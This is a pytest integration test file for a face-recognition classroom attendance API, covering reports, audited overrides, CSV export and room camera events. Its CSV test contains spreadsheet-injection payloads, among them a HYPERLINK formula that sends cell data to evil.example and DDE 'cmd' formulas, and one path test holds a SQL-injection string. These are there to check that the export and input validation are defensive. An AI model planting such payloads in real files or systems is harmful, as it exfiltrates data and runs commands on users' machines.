"""Attendance through the API on real databases: class reports, history, today's classes,
manual overrides with their audit trail, CSV export and the live room events."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine

from cloud_functions.core.db.attendance import DoorSighting, record_door_sighting
from cloud_functions.core.db.schema import (
    attendance,
    attendance_corrections,
    course_rosters,
    recognition_events,
)
from infra.seed import Person, seed_students
from tests.integration.test_api_helpers import (
    ADMIN,
    PEOPLE,
    TEACHER,
    TUESDAY,
    Api,
    audit_entries,
    running_api,
    seed,
)

CLASS_DATE = date(2026, 11, 24)


def _sighting(usn: str, minutes_after_start: int, status: str = "entered") -> DoorSighting:
    return DoorSighting(
        usn=usn,
        course_code="CS501",
        class_date=CLASS_DATE,
        room_id="R101",
        seen_at=datetime(2026, 11, 24, 3, 30, tzinfo=UTC) + timedelta(minutes=minutes_after_start),
        status=status,  # type: ignore[arg-type]
        source="face",
        similarity=0.71,
        capture_id=f"cap-{usn}",
    )


@pytest.fixture
def api(engine: Engine, database_url: str) -> Iterator[Api]:
    """Seeded campus; Ada entered on time and Alan late to CS501 on Tuesday 2026-11-24."""
    seed(engine)
    with engine.begin() as connection:
        record_door_sighting(connection, _sighting("1MS21CS000", 2))
        record_door_sighting(connection, _sighting("1MS21CS001", 35, "late"))
    with running_api(engine, database_url) as api:
        yield api


def test_class_report_lists_every_student_seen_with_counts(api: Api) -> None:
    response = api.client.get("/attendance/CS501/2026-11-24", headers=TEACHER)
    assert response.status_code == 200
    report = response.json()
    assert report["course_title"] == "Computer Vision"
    assert [(r["usn"], r["name"], r["status"]) for r in report["rows"]] == [
        ("1MS21CS000", "Ada Lovelace", "entered"),
        ("1MS21CS001", "Alan Turing", "late"),
    ]
    assert report["counts"] == {"entered": 1, "late": 1, "present": 0, "absent": 0, "excused": 0}
    assert report["total"] == 2


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/attendance/NOPE/2026-11-24", 404),
        ("/attendance/CS501/2026-13-01", 422),
        ("/attendance/CS501/yesterday", 422),
        ("/attendance/CS501'--/2026-11-24", 422),
    ],
)
def test_class_report_of_unknown_course_or_bad_date(api: Api, path: str, status: int) -> None:
    assert api.client.get(path, headers=TEACHER).status_code == status


def test_teacher_override_updates_status_and_audits_actor_reason_before_after(api: Api) -> None:
    # WHEN a teacher excuses the late student
    response = api.client.put(
        "/attendance/CS501/2026-11-24/1MS21CS001",
        json={"status": "excused", "reason": "bus strike"},
        headers=TEACHER,
    )
    # THEN the row is manual and excused, and the audit log says who, why, before and after
    assert response.status_code == 200, response.text
    assert (response.json()["status"], response.json()["source"]) == ("excused", "manual")
    (entry,) = audit_entries(api.engine, "override")
    detail = json.loads(entry["detail"])
    assert entry["actor"] == "Tom Teacher"
    assert entry["entity_id"] == "1MS21CS001/CS501/2026-11-24"
    assert detail["reason"] == "bus strike"
    assert (detail["before"]["status"], detail["before"]["source"]) == ("late", "face")
    assert (detail["after"]["status"], detail["after"]["source"]) == ("excused", "manual")


def test_override_for_a_student_not_seen_creates_the_row_in_the_timetabled_room(api: Api) -> None:
    response = api.client.put(
        "/attendance/CS501/2026-11-24/1MS21CS002",
        json={"status": "absent", "reason": "not in class"},
        headers=TEACHER,
    )
    assert response.status_code == 200, response.text
    assert (response.json()["room_id"], response.json()["status"]) == ("R101", "absent")
    assert json.loads(audit_entries(api.engine, "override")[0]["detail"])["before"] is None
    report = api.client.get("/attendance/CS501/2026-11-24", headers=TEACHER).json()
    assert report["counts"]["absent"] == 1


@pytest.mark.parametrize(
    ("path", "body", "status"),
    [
        ("/attendance/CS501/2026-11-24/1MS21CS000", {"status": "present"}, 422),  # no reason
        ("/attendance/CS501/2026-11-24/1MS21CS000", {"status": "present", "reason": " "}, 422),
        ("/attendance/CS501/2026-11-24/1MS21CS000", {"status": "teleported", "reason": "x"}, 422),
        ("/attendance/CS501/2026-11-24/1MS21CS000", {"status": "present", "reason": "r" * 256}, 422),
        ("/attendance/CS501/2026-11-24/NOBODY", {"status": "present", "reason": "x"}, 404),
        (
            "/attendance/CS501/2026-11-25/1MS21CS002",
            {"status": "present", "reason": "no class that day"},
            422,
        ),
        (
            "/attendance/CS501/2026-11-25/1MS21CS002",
            {"status": "present", "reason": "x", "room_id": "R999"},
            404,
        ),
    ],
)
def test_invalid_override_is_refused_and_changes_nothing(
    api: Api, path: str, body: dict[str, object], status: int
) -> None:
    assert api.client.put(path, json=body, headers=TEACHER).status_code == status
    assert audit_entries(api.engine, "override") == []


def test_override_on_a_day_without_timetable_takes_the_given_room(api: Api) -> None:
    response = api.client.put(
        "/attendance/CS501/2026-11-25/1MS21CS002",
        json={"status": "present", "reason": "make-up class", "room_id": "R102"},
        headers=ADMIN,
    )
    assert response.status_code == 200, response.text
    assert response.json()["room_id"] == "R102"


def test_student_history_spans_courses_and_dates(api: Api) -> None:
    api.client.put(
        "/attendance/CS502/2026-11-24/1MS21CS000",
        json={"status": "present", "reason": "register"},
        headers=ADMIN,
    )
    response = api.client.get("/students/1MS21CS000/attendance", headers=ADMIN)
    assert response.status_code == 200
    history = response.json()
    assert [(r["course_code"], r["status"]) for r in history["rows"]] == [
        ("CS501", "entered"),
        ("CS502", "present"),
    ]
    assert history["counts"]["present"] == 1
    # a teacher of CS501 only sees the student's CS501 rows
    own = api.client.get("/students/1MS21CS000/attendance", headers=TEACHER).json()
    assert [r["course_code"] for r in own["rows"]] == ["CS501"]
    later = api.client.get(
        "/students/1MS21CS000/attendance", params={"date_from": "2026-11-25"}, headers=TEACHER
    )
    assert later.json()["rows"] == []


def test_todays_classes_follow_room_local_time(api: Api) -> None:
    # GIVEN the clock at Tuesday 10:00 in Asia/Kolkata
    response = api.client.get("/classes/today", headers=ADMIN)
    # THEN R101 shows CS501 in session with its two arrivals, then CS502 upcoming; R102 is free
    assert response.status_code == 200
    classes = [(c["room_id"], c["course_code"], c["state"], c["attendance_count"]) for c in response.json()]
    assert classes == [("R101", "CS501", "in_session", 2), ("R101", "CS502", "upcoming", 0)]
    assert response.json()[0]["starts_at"] == "2026-11-24T03:30:00Z"
    # AND the teacher of CS501 sees only their class
    own = api.client.get("/classes/today", headers=TEACHER).json()
    assert [c["course_code"] for c in own] == ["CS501"]
    thursday = api.client.get("/classes/today", params={"on": "2026-11-26"}, headers=ADMIN).json()
    assert [(c["room_id"], c["course_code"], c["state"]) for c in thursday] == [("R102", "CS502", "upcoming")]
    assert api.client.get("/classes/today", params={"room_id": "R999"}, headers=TEACHER).status_code == 404


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_csv_export_neutralises_formulas(engine: Engine, database_url: str, name: str) -> None:
    # GIVEN a student whose name is a spreadsheet formula, recorded present
    seed(engine, people=(*PEOPLE, Person("1MS21CS099", name, ())))
    with running_api(engine, database_url) as api:
        api.client.put(
            "/attendance/CS501/2026-11-24/1MS21CS099",
            json={"status": "present", "reason": "=1+1"},
            headers=TEACHER,
        )
        # WHEN the class is exported
        response = api.client.get("/attendance/CS501/2026-11-24/export.csv", headers=TEACHER)
    # THEN the file is an attachment and the name cell starts with a quote, not a formula
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="attendance_CS501_2026-11-24.csv"' in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    (row,) = [r for r in rows if r["usn"] == "1MS21CS099"]
    assert row["name"] == "'" + name
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for r in rows for cell in r.values())


def test_csv_export_has_one_line_per_student(api: Api) -> None:
    response = api.client.get("/attendance/CS501/2026-11-24/export.csv", headers=TEACHER)
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["usn"], r["status"], r["similarity"]) for r in rows] == [
        ("1MS21CS000", "entered", "0.7100"),
        ("1MS21CS001", "late", "0.7100"),
    ]


def test_room_events_come_newest_first_in_pages(api: Api) -> None:
    # GIVEN five recognition events in R101 and one in R102
    with api.engine.begin() as connection:
        connection.execute(
            recognition_events.insert(),
            [
                {
                    "object_key": f"captures/faces/{room}/2026-11-24/c{i}.jpg",
                    "capture_id": f"c{i}",
                    "room_id": room,
                    "camera_id": f"{room}-door",
                    "captured_at": TUESDAY + timedelta(seconds=i),
                    "outcome": "recognised" if i % 2 else "unknown_person",
                    "usn": "1MS21CS000" if i % 2 else None,
                    "similarity": 0.7 if i % 2 else None,
                    "created_at": TUESDAY + timedelta(seconds=i),
                }
                for i, room in enumerate(["R101"] * 5 + ["R102"])
            ],
        )
    # WHEN the live view pages through R101 two at a time
    first = api.client.get("/rooms/R101/events", params={"limit": 2}, headers=TEACHER).json()
    second = api.client.get(
        "/rooms/R101/events", params={"limit": 2, "before_id": first["next_before_id"]}, headers=TEACHER
    ).json()
    third = api.client.get(
        "/rooms/R101/events", params={"limit": 2, "before_id": second["next_before_id"]}, headers=TEACHER
    ).json()
    # THEN the pages hold c4 c3 | c2 c1 | c0 and the last one says there is no more
    pages = [[e["capture_id"] for e in page["items"]] for page in (first, second, third)]
    assert pages == [["c4", "c3"], ["c2", "c1"], ["c0"]]
    assert third["next_before_id"] is None
    assert api.client.get("/rooms/R999/events", headers=TEACHER).status_code == 404
    assert api.client.get("/rooms/R101/events", params={"limit": 1000}, headers=TEACHER).status_code == 422
    with api.engine.connect() as connection:
        assert (
            connection.execute(sa.select(sa.func.count()).select_from(recognition_events)).scalar_one() == 6
        )


def _roster(engine: Engine, *entries: tuple[str, date | None, date | None]) -> None:
    with engine.begin() as connection:
        connection.execute(
            course_rosters.insert(),
            [
                {"course_code": "CS501", "usn": usn, "valid_from": valid_from, "valid_to": valid_to}
                for usn, valid_from, valid_to in entries
            ],
        )


def test_report_absentees_are_the_roster_students_without_a_mark_or_marked_absent(api: Api) -> None:
    # GIVEN CS501's roster: Ada and Alan (both recorded on Tuesday), Grace, who joined on the
    # Tuesday, and Edsger, who left the day before; a walk-in is recorded but on no roster
    seed_students(
        api.engine, (Person("1MS21CS003", "Edsger Dijkstra", ()), Person("1MS21CS004", "Walk In", ()))
    )
    _roster(
        api.engine,
        ("1MS21CS000", None, None),
        ("1MS21CS001", None, None),
        ("1MS21CS002", CLASS_DATE, None),
        ("1MS21CS003", None, CLASS_DATE - timedelta(days=1)),
    )
    with api.engine.begin() as connection:
        record_door_sighting(connection, _sighting("1MS21CS004", 3))
    # WHEN Tuesday's and the previous Tuesday's reports are read
    tuesday = api.client.get("/attendance/CS501/2026-11-24", headers=TEACHER).json()
    week_before = api.client.get("/attendance/CS501/2026-11-17", headers=TEACHER).json()
    # THEN Tuesday expects Ada, Alan and Grace; Grace, with no mark, is absent; the walk-in is off the roster
    assert tuesday["expected"] == 3
    assert tuesday["absent"] == [{"usn": "1MS21CS002", "name": "Grace Hopper"}]
    assert tuesday["not_seen"] == tuesday["absent"]
    assert tuesday["off_roster"] == [{"usn": "1MS21CS004", "name": "Walk In"}]
    # AND a week earlier, before Grace joined and while Edsger was enrolled, nobody was recorded
    assert week_before["expected"] == 3
    assert [s["usn"] for s in week_before["absent"]] == ["1MS21CS000", "1MS21CS001", "1MS21CS003"]


def test_report_counts_a_student_marked_absent_among_the_absentees(api: Api) -> None:
    _roster(api.engine, ("1MS21CS000", None, None), ("1MS21CS002", None, None))
    api.client.put(
        "/attendance/CS501/2026-11-24/1MS21CS002", json={"status": "absent", "reason": "ill"}, headers=TEACHER
    )
    report = api.client.get("/attendance/CS501/2026-11-24", headers=TEACHER).json()
    assert report["absent"] == [{"usn": "1MS21CS002", "name": "Grace Hopper"}]
    assert report["not_seen"] == []


def test_csv_shows_room_local_times_absentees_and_corrections(api: Api) -> None:
    # GIVEN Ada seen at 09:02 Kolkata (03:32 UTC, with microseconds), Grace on the roster with no
    # mark, and Alan's late mark corrected by a teacher
    _roster(api.engine, ("1MS21CS000", None, None), ("1MS21CS001", None, None), ("1MS21CS002", None, None))
    with api.engine.begin() as connection:
        connection.execute(
            sa.update(attendance)
            .where(attendance.c.usn == "1MS21CS000")
            .values(first_seen_at=datetime(2026, 11, 24, 3, 32, 5, 123456, tzinfo=UTC))
        )
        connection.execute(
            attendance_corrections.insert().values(
                usn="1MS21CS001",
                course_code="CS501",
                class_date=CLASS_DATE,
                old_status="late",
                new_status="present",
                reason="=bus was late",
                corrected_by="Tom Teacher",
                corrected_at=datetime(2026, 11, 24, 6, 0, tzinfo=UTC),
            )
        )
    # WHEN the class is exported
    response = api.client.get("/attendance/CS501/2026-11-24/export.csv", headers=TEACHER)
    rows = {r["usn"]: r for r in csv.DictReader(io.StringIO(response.text))}
    # THEN times are Kolkata wall-clock times to the second, on the class date
    assert rows["1MS21CS000"]["first_seen_local"] == "2026-11-24 09:02:05"
    assert rows["1MS21CS000"]["timezone"] == "Asia/Kolkata"
    # AND Grace is in the file as absent without a mark
    assert (rows["1MS21CS002"]["status"], rows["1MS21CS002"]["source"]) == ("absent", "no mark")
    assert rows["1MS21CS002"]["room_id"] == "R101"
    # AND Alan's row names who corrected it, when (Kolkata) and why, the reason made safe
    alan = rows["1MS21CS001"]
    assert (alan["corrected_by"], alan["corrected_at_local"]) == ("Tom Teacher", "2026-11-24 11:30:00")
    assert alan["correction_reason"] == "'=bus was late"


def test_room_events_can_be_only_the_door_cameras_or_only_the_room_cameras(api: Api) -> None:
    # GIVEN a door face, a body crop and a gallery crop of R101
    keys = {
        "door-1": "captures/faces/R101/2026-11-24/door-1.jpg",
        "body-1": "captures/bodies/R101/2026-11-24/body-1.jpg",
        "gallery-1": "captures/gallery/R101/2026-11-24/1MS21CS000/gallery-1.jpg",
    }
    with api.engine.begin() as connection:
        connection.execute(
            recognition_events.insert(),
            [
                {
                    "object_key": key,
                    "capture_id": capture_id,
                    "room_id": "R101",
                    "captured_at": TUESDAY,
                    "outcome": "recognised" if capture_id.startswith("door") else "body_unknown",
                    "created_at": TUESDAY,
                }
                for capture_id, key in keys.items()
            ],
        )

    def ids(**params: str) -> list[str]:
        page = api.client.get("/rooms/R101/events", params=params, headers=TEACHER).json()
        return sorted(e["capture_id"] for e in page["items"])

    # WHEN the live view asks for the door camera's events, the room camera's, or all
    # THEN each gets its own, and an unknown camera is refused
    assert ids(camera="door") == ["door-1"]
    assert ids(camera="room") == ["body-1", "gallery-1"]
    assert ids() == ["body-1", "door-1", "gallery-1"]
    assert api.client.get("/rooms/R101/events", params={"camera": "hall"}, headers=TEACHER).status_code == 422
